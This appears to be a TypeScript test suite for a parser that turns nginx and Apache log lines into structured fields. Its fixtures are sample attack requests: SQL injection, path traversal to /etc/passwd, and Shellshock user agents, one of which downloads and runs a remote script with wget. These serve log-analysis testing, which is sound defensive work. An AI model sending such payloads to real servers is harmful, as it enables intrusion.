import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parseClfTime, unescapeLogString, webServerFromImage } from './access-log.js';
import { decodeLogLine } from './index.js';

describe('access logs (nginx / Apache)', () => {
  test('combined format with a SQL injection and sqlmap', () => {
    const d = decodeLogLine(
      '203.0.113.7 - - [10/Oct/2023:13:55:36 +0200] "GET /index.php?id=1%27%20OR%201=1-- HTTP/1.1" 200 2326 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"',
    );
    assert.deepEqual(d, {
      log: { format: 'nginx', time: '2023-10-10T11:55:36.000000000Z' },
      source: { ip: '203.0.113.7' },
      http: { request: { method: 'GET' }, version: '1.1', response: { status_code: 200, body: { bytes: 2326 } } },
      url: { original: '/index.php?id=1%27%20OR%201=1--', path: '/index.php', query: "id=1' OR 1=1--" },
      user_agent: { original: 'sqlmap/1.7.2#stable (https://sqlmap.org)' },
    });
  });

  test('path traversal, referrer, user, nginx extra fields', () => {
    const d = decodeLogLine(
      '10.1.2.3 - alice [01/Jan/2024:00:00:01 +0000] "GET /..%2f..%2fetc/passwd HTTP/1.1" 400 157 "http://victim.example/" "Mozilla/5.0 (compatible; Nikto/2.5.0)" "198.51.100.9" rt=0.001',
    );
    assert.equal(d.log.format, 'nginx');
    assert.equal(d.url?.path, '/../../etc/passwd');
    assert.equal(d.url?.original, '/..%2f..%2fetc/passwd');
    assert.equal(d.user?.name, 'alice');
    assert.equal(d.http?.request?.referrer, 'http://victim.example/');
    assert.equal(d.http?.response?.status_code, 400);
    assert.equal(d.user_agent?.original, 'Mozilla/5.0 (compatible; Nikto/2.5.0)');
    assert.equal(d.log.extra, '"198.51.100.9" rt=0.001');
  });

  test('shellshock user agent: Apache \\" quoting, and nginx \\x22 quoting', () => {
    const apache = decodeLogLine(
      '192.0.2.44 - - [12/Mar/2024:08:01:02 -0500] "GET /cgi-bin/status HTTP/1.1" 500 612 "-" "() { :; }; /bin/bash -c \\"wget http://203.0.113.5/x.sh -O /tmp/x.sh; sh /tmp/x.sh\\""',
    );
    assert.equal(apache.log.format, 'apache');
    assert.equal(apache.user_agent?.original, '() { :; }; /bin/bash -c "wget http://203.0.113.5/x.sh -O /tmp/x.sh; sh /tmp/x.sh"');
    assert.equal(apache.log.time, '2024-03-12T13:01:02.000000000Z');
    const nginx = decodeLogLine(
      '192.0.2.44 - - [12/Mar/2024:08:01:02 +0000] "GET /cgi-bin/test.cgi HTTP/1.1" 404 153 "-" "() { :; }; echo; /bin/bash -c \\x22cat /etc/passwd\\x22"',
    );
    assert.equal(nginx.log.format, 'nginx');
    assert.equal(nginx.user_agent?.original, '() { :; }; echo; /bin/bash -c "cat /etc/passwd"');
  });

  test('common log format (no referrer/UA), `-` bytes, hint apache', () => {
    const d = decodeLogLine('127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 304 -', { webServer: 'apache' });
    assert.deepEqual(d, {
      log: { format: 'apache', time: '2000-10-10T20:55:36.000000000Z' },
      source: { ip: '127.0.0.1' },
      user: { name: 'frank' },
      http: { request: { method: 'GET' }, version: '1.0', response: { status_code: 304 } },
      url: { original: '/apache_pb.gif', path: '/apache_pb.gif' },
    });
  });

  test('IPv6 client, vhost prefix, host names', () => {
    assert.equal(decodeLogLine('2001:db8::1 - - [10/Oct/2000:13:55:36 +0000] "HEAD / HTTP/1.1" 200 0 "-" "curl/8.0"').source?.ip, '2001:db8::1');
    const v = decodeLogLine('www.example.com:443 198.51.100.2 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 10 "-" "x"');
    assert.equal(v.source?.ip, '198.51.100.2');
    assert.equal(v.http?.response?.status_code, 200);
    const h = decodeLogLine('crawler.example.net - - [10/Oct/2000:13:55:36 +0000] "GET /robots.txt HTTP/1.1" 200 10');
    assert.deepEqual(h.source, { domain: 'crawler.example.net' });
  });

  test('malformed request lines keep the raw request', () => {
    const tls = decodeLogLine('198.51.100.3 - - [10/Oct/2000:13:55:36 +0000] "\\x16\\x03\\x01\\x00\\xA5\\x01" 400 157 "-" "-"');
    assert.equal(tls.http?.response?.status_code, 400);
    assert.equal(tls.url, undefined);
    assert.equal(tls.http?.request?.line, '\u0016\u0003\u0001\u0000\u00a5\u0001');
    const dash = decodeLogLine('198.51.100.3 - - [10/Oct/2000:13:55:36 +0000] "-" 408 0 "-" "-"');
    assert.equal(dash.http?.request, undefined);
    assert.equal(dash.http?.response?.status_code, 408);
    const proxy = decodeLogLine('198.51.100.3 - - [10/Oct/2000:13:55:36 +0000] "CONNECT example.com:443 HTTP/1.1" 405 0 "-" "-"');
    assert.equal(proxy.http?.request?.method, 'CONNECT');
    assert.deepEqual(proxy.url, { original: 'example.com:443' });
    const abs = decodeLogLine('198.51.100.3 - - [10/Oct/2000:13:55:36 +0000] "GET http://203.0.113.9/phpmyadmin/ HTTP/1.1" 404 0 "-" "-"');
    assert.equal(abs.url?.domain, '203.0.113.9');
    assert.equal(abs.url?.path, '/phpmyadmin/');
  });

  test('nginx error log line', () => {
    const d = decodeLogLine(
      '2024/01/15 10:00:00 [error] 29#29: *1 open() "/usr/share/nginx/html/wp-login.php" failed (2: No such file or directory), client: 172.17.0.1, server: localhost, request: "GET /wp-login.php?x=%3Cscript%3E HTTP/1.1", host: "localhost:8080", referrer: "http://a/"',
    );
    assert.equal(d.log.format, 'nginx');
    assert.equal(d.log.level, 'error');
    assert.equal(d.source?.ip, '172.17.0.1');
    assert.equal(d.http?.request?.method, 'GET');
    assert.equal(d.http?.request?.referrer, 'http://a/');
    assert.equal(d.url?.query, 'x=<script>');
    assert.equal(d.url?.domain, 'localhost');
    assert.equal(d.message, 'open() "/usr/share/nginx/html/wp-login.php" failed (2: No such file or directory)');
    assert.equal(decodeLogLine('2024/01/15 10:00:00 [notice] 1#1: start worker processes').log.level, 'info');
  });

  test('Apache error log line', () => {
    const d = decodeLogLine(
      '[Wed Oct 11 14:32:52.123456 2000] [core:error] [pid 35708:tid 4328636416] [client 72.15.99.187:12345] AH00128: File does not exist: /usr/local/apache2/htdocs/.env',
    );
    assert.deepEqual(d, {
      log: { format: 'apache', level: 'error' },
      process: { pid: 35708 },
      source: { ip: '72.15.99.187', port: 12345 },
      message: 'AH00128: File does not exist: /usr/local/apache2/htdocs/.env',
    });
  });

  test('helpers', () => {
    assert.equal(unescapeLogString('a\\x22b\\"c\\\\d\\q'), 'a"b"c\\d\\q');
    assert.equal(parseClfTime('10/Oct/2000:13:55:36 -0700'), '2000-10-10T20:55:36.000000000Z');
    assert.equal(parseClfTime('10/Oct/2000:13:55:36.123 +0000'), '2000-10-10T13:55:36.123000000Z');
    assert.equal(parseClfTime('10/Foo/2000:13:55:36 +0000'), undefined);
    // The last conversion is kept: the same text again, then others, then back.
    for (const [t, want] of [['10/Oct/2000:13:55:36 -0700', '2000-10-10T20:55:36.000000000Z'], ['10/Oct/2000:13:55:36 -0700', '2000-10-10T20:55:36.000000000Z'], ['10/Foo/2000:13:55:36 +0000', undefined], ['10/Foo/2000:13:55:36 +0000', undefined], ['11/Oct/2000:13:55:36 +0000', '2000-10-11T13:55:36.000000000Z']] as const) {
      assert.equal(parseClfTime(t), want, t);
    }
    assert.equal(webServerFromImage('httpd:2.4'), 'apache');
    assert.equal(webServerFromImage('bitnami/apache'), 'apache');
    assert.equal(webServerFromImage('nginx:1.27'), 'nginx');
    assert.equal(webServerFromImage(undefined), 'nginx');
  });

  test('look-alikes are not access logs', () => {
    assert.equal(decodeLogLine('10.0.0.1 - - [not a time] "GET / HTTP/1.1" 200 1').log.format, 'plain');
    assert.equal(decodeLogLine('10.0.0.1 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" abc 1').log.format, 'plain');
    assert.equal(decodeLogLine('10.0.0.1 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1').log.format, 'plain');
    assert.equal(decodeLogLine('a b c d e [x] "y" 200 1').log.format, 'plain');
  });
});
